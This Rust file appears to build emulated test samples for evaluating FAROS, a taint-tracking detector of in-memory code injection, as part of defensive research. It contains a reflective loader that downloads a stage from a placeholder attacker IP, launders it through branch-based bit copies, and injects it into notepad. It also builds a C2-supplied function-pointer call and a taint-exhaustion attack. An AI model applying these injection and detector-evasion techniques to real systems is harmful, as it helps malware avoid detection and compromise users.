//! Evasion samples — the attacks the paper *admits* FAROS can miss
//! (§VI-D "Discussion and Limitations") plus a control-data attack for the
//! Minos-style extension policy.
//!
//! * [`laundered_reflective`] — "a dedicated attack could copy data
//!   bit-by-bit using an if statement in a for loop ... The output produced
//!   by such a loop would be identical to the input but would be untainted"
//!   (§VI-D, the Fig. 2 channel). The loader downloads its stage, launders
//!   every byte through conditional branches, and only then injects it:
//!   under FAROS' direct-flow policy the injected code is untainted and the
//!   attack is **missed** — reproducing the documented limitation. The
//!   conservative (control-dependency) propagation mode recovers detection
//!   at the cost of overtainting.
//! * [`tainted_function_pointer`] — the guest reads a function pointer off
//!   the wire and calls through it: invisible to the export-table invariant
//!   (the code executing is clean), but caught by the optional
//!   `Policy::minos_tainted_pc` extension (tainted control transfer).

use crate::attacks::{benign_victim, PAYLOAD_BASE};
use crate::builder::{
    connect, emit_launder_copy, emit_resolve_export, exit_process, finish_image, print_label,
    recv_into, send_label, sys, SCRATCH,
};
use crate::endpoints::{EndpointFactory, PayloadHandler, ATTACKER_IP, HANDLER_PORT};
use crate::scenario::{Category, InjectionKind, Sample, SampleScenario};
use faros_emu::asm::Asm;
use faros_emu::isa::{Mem as M, Reg};
use faros_kernel::machine::IMAGE_BASE;
use faros_kernel::module::hash_name;
use faros_kernel::nt::Sysno;

/// Builds the same reflective stage the ordinary attacks use (announce via
/// a reflectively resolved `OutputDebugStringA`, then exit the thread).
fn stage(message: &str) -> Vec<u8> {
    let mut asm = Asm::new(PAYLOAD_BASE);
    emit_resolve_export(&mut asm, hash_name("OutputDebugStringA"), "ods");
    asm.mov_rr(Reg::Ebp, Reg::Eax);
    asm.mov_label(Reg::Ebx, "msg");
    asm.mov_ri(Reg::Ecx, message.len() as u32);
    asm.call_reg(Reg::Ebp);
    asm.hlt();
    asm.label("msg");
    asm.raw(message.as_bytes());
    asm.assemble().expect("stage assembles")
}

/// The taint-laundering attack of §VI-D: download, *launder bit-by-bit
/// through control dependencies*, inject into a spawned victim, run.
///
/// Ground truth: this IS an in-memory injection — and the sample exists to
/// document that FAROS' shipping policy misses it.
pub fn laundered_reflective() -> Sample {
    let payload = stage("laundered stage");
    let payload_len = payload.len() as u32;
    // Scratch: 0 sock, 4 count, 8.. out triple, 20 victim alloc, 24 own alloc.
    let mut asm = Asm::new(IMAGE_BASE);
    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
    send_label(&mut asm, 0, "rdy", 3);
    // Download buffer (RW) at PAYLOAD_BASE, laundered copy right after it.
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[
            (Reg::Ebx, 0xffff_ffff),
            (Reg::Ecx, 0x2000),
            (Reg::Edx, 0b011),
            (Reg::Esi, SCRATCH + 24),
        ],
    );
    recv_into(&mut asm, 0, PAYLOAD_BASE, 0x1000, 4);
    // The Fig. 2 bit-copy: value-identical, provenance-free.
    emit_launder_copy(&mut asm, PAYLOAD_BASE + 0x1000, PAYLOAD_BASE, payload_len, "ln");
    // Spawn the victim and inject the *laundered* copy.
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[
            (Reg::Ecx, "C:/notepad.exe".len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, SCRATCH + 8),
        ],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b111), (Reg::Esi, SCRATCH + 20)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    sys(
        &mut asm,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Edx, PAYLOAD_BASE + 0x1000), (Reg::Esi, payload_len)],
    );
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    sys(
        &mut asm,
        Sysno::NtCreateThreadEx,
        &[(Reg::Edx, 0), (Reg::Esi, 0), (Reg::Edi, 0)],
    );
    exit_process(&mut asm, 0);
    asm.label("rdy");
    asm.raw(b"RDY");
    asm.label("vpath");
    asm.raw(b"C:/notepad.exe");

    let scenario = SampleScenario::new("laundered_reflective")
        .program("C:/launder.exe", finish_image(asm))
        .program("C:/notepad.exe", benign_victim("notepad", 10))
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
            PayloadHandler::new(payload.clone())
        }))
        .autostart("C:/launder.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::ReflectiveDll),
        behaviors: Vec::new(),
    }
}

/// A control-data attack: the C2 sends the *address* of a function to call
/// (here the kernel `OutputDebugStringA` stub, leaked host-side), and the
/// client jumps through it. No injected code, no export-table parse — the
/// export-table invariant stays silent, but the transfer target is
/// netflow-tainted, which the `minos_tainted_pc` extension flags.
pub fn tainted_function_pointer(leaked_target: u32) -> Sample {
    let mut asm = Asm::new(IMAGE_BASE);
    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
    send_label(&mut asm, 0, "rdy", 3);
    // Receive the 4-byte pointer into scratch.
    recv_into(&mut asm, 0, SCRATCH + 0x40, 4, 4);
    // Call through it: EBX/ECX set up a message for the stub.
    asm.mov_label(Reg::Ebx, "msg");
    asm.mov_ri(Reg::Ecx, 9);
    asm.ld4(Reg::Ebp, M::abs(SCRATCH + 0x40));
    asm.call_reg(Reg::Ebp);
    exit_process(&mut asm, 0);
    asm.label("rdy");
    asm.raw(b"RDY");
    asm.label("msg");
    asm.raw(b"redirect!");

    let pointer = leaked_target.to_le_bytes().to_vec();
    let scenario = SampleScenario::new("tainted_function_pointer")
        .program("C:/gadget.exe", finish_image(asm))
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, move || {
            PayloadHandler::new(pointer.clone())
        }))
        .autostart("C:/gadget.exe");
    Sample {
        scenario,
        category: Category::Injecting(InjectionKind::CodeInjection),
        behaviors: Vec::new(),
    }
}

/// The §VI-D resource-exhaustion attack: "an evasion technique could
/// leverage this design to exhaust FAROS' memory" by manufacturing
/// ever-longer provenance chronologies. Two cooperating processes ping-pong
/// a downloaded buffer with `NtWriteVirtualMemory`, appending alternating
/// process tags every round; each round mints new interned lists, so the
/// attack probes whether FAROS' bookkeeping stays linear rather than
/// exploding. It does: `taint_bomb_growth_is_linear_not_explosive` bounds
/// the number of interned lists, and `taint_bomb_stored_size_is_linear`
/// bounds the interner's heap bytes.
pub fn taint_bomb(rounds: u32) -> Sample {
    // Pong side: idles long enough for the ping side to finish.
    let pong = crate::attacks::benign_victim("pong", 40);

    // Ping side: download 64 tainted bytes, then bounce them to the child
    // and back `rounds` times.
    let mut asm = Asm::new(IMAGE_BASE);
    connect(&mut asm, ATTACKER_IP, HANDLER_PORT, 0);
    send_label(&mut asm, 0, "rdy", 3);
    recv_into(&mut asm, 0, SCRATCH + 0x100, 64, 4);
    asm.mov_label(Reg::Ebx, "vpath");
    sys(
        &mut asm,
        Sysno::NtCreateUserProcess,
        &[
            (Reg::Ecx, "C:/pong.exe".len() as u32),
            (Reg::Edx, 0),
            (Reg::Esi, SCRATCH + 8),
        ],
    );
    // RW staging area in the child.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(
        &mut asm,
        Sysno::NtAllocateVirtualMemory,
        &[(Reg::Ecx, 0x1000), (Reg::Edx, 0b011), (Reg::Esi, SCRATCH + 20)],
    );
    asm.mov_ri(Reg::Edi, rounds);
    asm.label("bounce");
    // ping -> pong
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    sys(
        &mut asm,
        Sysno::NtWriteVirtualMemory,
        &[(Reg::Edx, SCRATCH + 0x100), (Reg::Esi, 64)],
    );
    // pong -> ping
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    asm.ld4(Reg::Ecx, M::abs(SCRATCH + 20));
    sys(
        &mut asm,
        Sysno::NtReadVirtualMemory,
        &[(Reg::Edx, SCRATCH + 0x100), (Reg::Esi, 64)],
    );
    asm.sub_ri(Reg::Edi, 1);
    asm.cmp_ri(Reg::Edi, 0);
    asm.jnz("bounce");
    // Take the child down and exit.
    asm.ld4(Reg::Ebx, M::abs(SCRATCH + 8));
    sys(&mut asm, Sysno::NtTerminateProcess, &[(Reg::Ecx, 0)]);
    exit_process(&mut asm, 0);
    asm.label("rdy");
    asm.raw(b"RDY");
    asm.label("vpath");
    asm.raw(b"C:/pong.exe");

    let scenario = SampleScenario::new("taint_bomb")
        .program("C:/ping.exe", finish_image(asm))
        .program("C:/pong.exe", pong)
        .endpoint(EndpointFactory::new(ATTACKER_IP, HANDLER_PORT, || {
            PayloadHandler::new(vec![0x55; 64])
        }))
        .autostart("C:/ping.exe");
    Sample {
        scenario,
        category: Category::NonInjectingMalware,
        behaviors: Vec::new(),
    }
}

/// A benign indirect-call workload for the Minos extension's FP check: the
/// program resolves `OutputDebugStringA` through the clean `GetProcAddress`
/// kernel routine and calls through the (untainted) result.
pub fn clean_indirect_call(gpa_va: u32) -> Sample {
    let mut asm = Asm::new(IMAGE_BASE);
    asm.mov_ri(Reg::Ebx, hash_name("OutputDebugStringA"));
    asm.mov_ri(Reg::Edi, gpa_va);
    asm.call_reg(Reg::Edi);
    asm.mov_rr(Reg::Ebp, Reg::Eax);
    asm.mov_label(Reg::Ebx, "msg");
    asm.mov_ri(Reg::Ecx, 5);
    asm.call_reg(Reg::Ebp);
    print_label(&mut asm, "done", 4);
    exit_process(&mut asm, 0);
    asm.label("msg");
    asm.raw(b"clean");
    asm.label("done");
    asm.raw(b"done");

    let scenario = SampleScenario::new("clean_indirect_call")
        .program("C:/cleanptr.exe", finish_image(asm))
        .autostart("C:/cleanptr.exe");
    Sample { scenario, category: Category::Benign, behaviors: Vec::new() }
}
